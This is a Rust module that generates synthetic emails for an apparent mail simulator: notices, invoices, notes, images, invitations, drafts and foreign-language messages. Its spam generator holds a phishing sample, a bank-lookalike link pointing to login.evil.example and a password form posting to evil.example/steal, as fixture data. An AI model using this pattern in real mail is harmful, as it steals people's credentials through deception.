//! Mails that stand alone: notices, invoices, notes, pictures, invitations, spam, drafts, foreign languages.

use super::conversation::{Counterpart, Facts, counterpart, html_paragraphs, quick_note, supplier};
use super::international::FOREIGN;
use super::{Source, files};
use crate::dates::{iso8601, long_date};
use crate::mail::{Address, Charset, Mail, escape_html};
use crate::rng::Rng;

fn start(source: Source<'_>) -> (Rng, Counterpart, Facts) {
    let mut rng = source.mail_rng();
    let other = counterpart(&mut rng, source.owner);
    let facts = Facts::new(&mut rng, &other.company);
    (rng, other, facts)
}

pub(super) fn international(source: Source<'_>, language: u8) -> Mail {
    let (mut rng, _, facts) = start(source);
    let place = usize::from(language)
        .checked_rem(FOREIGN.len())
        .unwrap_or_default();
    let foreign = FOREIGN.get(place).copied().unwrap_or_default();
    let body = facts.fill(foreign.body);
    let direction = if foreign.rtl { "rtl" } else { "ltr" };
    let charset = match foreign.name.chars().next() {
        Some('А'..='я') => Charset::Windows1251,
        Some('M' | 'J') if rng.percent(50) => Charset::Latin1,
        _ => Charset::Utf8,
    };
    Mail {
        from: Some(Address::new(foreign.name, foreign.email)),
        subject: Some(facts.fill(foreign.subject)),
        html: Some(format!(
            "<div dir=\"{direction}\" style=\"font-family:Arial,sans-serif\">{}</div>",
            html_paragraphs(&body)
        )),
        text: Some(body),
        charset,
        ..Mail::default()
    }
}

pub(super) fn notification(source: Source<'_>) -> Mail {
    let (mut rng, other, facts) = start(source);
    let (name, email, subject, line) = rng.pick(&[
        ("Parcel Service", "noreply@parcel-service.example", "Your parcel {number} arrives {day}", "Your parcel {number} is on its way and arrives on {day} between 9:00 and 12:00."),
        ("Taskboard", "notifications@taskboard.example", "[Atlas] New comment on task {number}", "There is a new comment on task {number}: “Figures are in the sheet, please review before {day}.”"),
        ("Nimbus Hosting", "status@nimbus-hosting.example", "Scheduled maintenance on {day}", "We are replacing network equipment in {city} on {day}. Expect up to {count} minutes without service."),
        ("Railways", "tickets@railways.example", "Your ticket to {city}", "Your ticket to {city} is booked. Seat {count}, coach 7. Have a good journey."),
        ("CRM", "digest@crm.example", "Your morning digest: {count} open leads", "You have {count} open leads. {partner} was waiting longest: their last message is from {date}."),
    ]);
    let text = facts.fill(line);
    Mail {
        from: Some(Address::new(name, email)),
        subject: Some(facts.fill(subject)),
        html: Some(format!(
            "<table role=\"presentation\" width=\"100%\" style=\"background:#eef2f7\"><tr><td align=\"center\" style=\"padding:32px\">\
             <table role=\"presentation\" width=\"520\" style=\"background:#fff;border-radius:8px\"><tr><td style=\"padding:28px;font:15px/24px Arial,sans-serif;color:#1f2937\">\
             <strong style=\"font-size:18px\">{}</strong><p>{}</p><p style=\"color:#6b7280;font-size:12px\">This message was sent automatically to {}. Reference: {}</p></td></tr></table></td></tr></table>",
            escape_html(name),
            escape_html(&text),
            escape_html(&source.owner.address.email),
            escape_html(&other.company),
        )),
        text: Some(text),
        headers: vec![("Auto-Submitted".to_owned(), "auto-generated".to_owned())],
        ..Mail::default()
    }
}

pub(super) fn invoice(source: Source<'_>) -> Mail {
    let mut rng = source.mail_rng();
    let other = supplier(&mut rng);
    let facts = Facts::new(&mut rng, &other.company);
    let number = &facts.number;
    let text = facts.fill(
        "Dear Sir or Madam,\nplease find attached our invoice {number} over {amount}, payable within 14 days without deduction.\n\
         The positions are also attached as a table for your accounting.\nThank you for your order.",
    );
    let date = long_date(source.received_ms);
    let rows = [
        "position;quantity;price".to_owned(),
        "1;12;49.90".to_owned(),
        "2;3;180.00".to_owned(),
        "3;1;75.00".to_owned(),
    ];
    Mail {
        from: Some(Address::new(
            &format!("{} Accounting", other.company),
            &other.address.email,
        )),
        reply_to: vec![other.address.clone()],
        subject: Some(format!("Invoice {number} – {}", other.company)),
        html: Some(html_paragraphs(&text)),
        text: Some(text),
        attachments: vec![
            files::pdf(
                &format!("Invoice-{number}.pdf"),
                &[
                    format!("Invoice {number}"),
                    other.company,
                    date,
                    facts.amount.replace('€', "EUR"),
                ],
            ),
            files::csv(&format!("positions-{number}.csv"), &rows),
        ],
        ..Mail::default()
    }
}

pub(super) fn plain_note(source: Source<'_>) -> Mail {
    let (mut rng, other, facts) = start(source);
    let (subject, text) = quick_note(&mut rng, &facts);
    Mail {
        from: Some(other.address),
        subject: Some(subject),
        text: Some(format!(
            "Hello {},\n\n{text}\n\nRegards\n{}\n\n-- \n{}\n",
            source.owner.first_name, other.first_name, other.role
        )),
        ..Mail::default()
    }
}

pub(super) fn inline_image(source: Source<'_>) -> Mail {
    let (mut rng, other, facts) = start(source);
    let hue = rng.next();
    let id = format!("image001.{hue:016x}@simulator");
    let mut picture = files::png("image001.png", hue, 120, 45);
    picture.inline = true;
    picture.content_id = Some(id.clone());
    let photo = files::png("delivery-photo.png", hue.rotate_left(13), 160, 100);
    let text = facts.fill("Here is the photo from this morning: the {product} as they arrived in {city}.\nThe first pallet is at the back, the second still on the lorry.");
    Mail {
        from: Some(other.address.clone()),
        subject: Some(facts.fill("Photos of the {product}")),
        html: Some(format!(
            "<html><body style=\"font-family:Calibri,sans-serif\">{}<p><img src=\"cid:{id}\" alt=\"Preview\" width=\"240\" height=\"90\"></p><p>{}</p></body></html>",
            html_paragraphs(&text),
            escape_html(&other.address.name),
        )),
        text: Some(text),
        attachments: vec![picture, photo],
        ..Mail::default()
    }
}

pub(super) fn invitation(source: Source<'_>) -> Mail {
    let (_, other, facts) = start(source);
    let subject = facts.fill("Invitation: weekly review with {company}, {day} 11:00");
    let starts: String = iso8601(source.received_ms + 3 * crate::dates::DAY)
        .chars()
        .filter(|c| *c != '-' && *c != ':')
        .collect();
    Mail {
        from: Some(other.address),
        html: Some(html_paragraphs(
            "You are invited to the following meeting.\nPlease answer with yes, no or maybe.",
        )),
        text: Some(
            "You are invited to the following meeting.\nPlease answer with yes, no or maybe.".to_owned(),
        ),
        attachments: vec![files::invitation(&subject, &starts, &facts.number)],
        subject: Some(subject),
        ..Mail::default()
    }
}

pub(super) fn spam(source: Source<'_>) -> Mail {
    let mut rng = source.mail_rng();
    let (subject, name) = rng.pick(&[
        ("You have (1) package waiting!!!", "Delivery Dept"),
        ("RE: your unclaimed inheritance", "Barrister Philip"),
        ("Your mailbox is almost full – verify now", "IT Helpdesk"),
        ("Cheap watches, today only", "Luxury Outlet"),
    ]);
    Mail {
        from: Some(Address::new(name, &format!("info{}@win-big.example", rng.below(900)))),
        reply_to: vec![Address::new("", "claims@somewhere-else.example")],
        subject: Some(subject.to_owned()),
        html: Some("<center><h1 style=\"color:red\">ACT NOW</h1><p>Click <a href=\"https://login.evil.example/\">https://www.your-bank.example/</a> to confirm.</p><form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"></form></center>".to_owned()),
        ..Mail::default()
    }
}

pub(super) fn draft(source: Source<'_>) -> Mail {
    let (_, other, facts) = start(source);
    let text = facts.fill("Dear colleagues,\nregarding the {product} I would suggest that we");
    Mail {
        from: Some(source.owner.address.clone()),
        to: vec![other.address],
        subject: Some(facts.fill("Next steps for the {product}")),
        html: Some(html_paragraphs(&text)),
        text: Some(text),
        ..Mail::default()
    }
}

pub(super) fn outgoing(source: Source<'_>) -> Mail {
    let (_, other, facts) = start(source);
    let text = facts.fill("Thank you for the good meeting in {city} today.\nAs promised I will send you our offer for {count} {product} by {day}.");
    Mail {
        from: Some(source.owner.address.clone()),
        subject: Some(facts.fill("Thank you for the meeting in {city}")),
        html: Some(format!(
            "<p>Hi {},</p>{}<p>{}</p>",
            escape_html(&other.first_name),
            html_paragraphs(&text),
            source.owner.first_name
        )),
        to: vec![other.address],
        text: Some(text),
        ..Mail::default()
    }
}
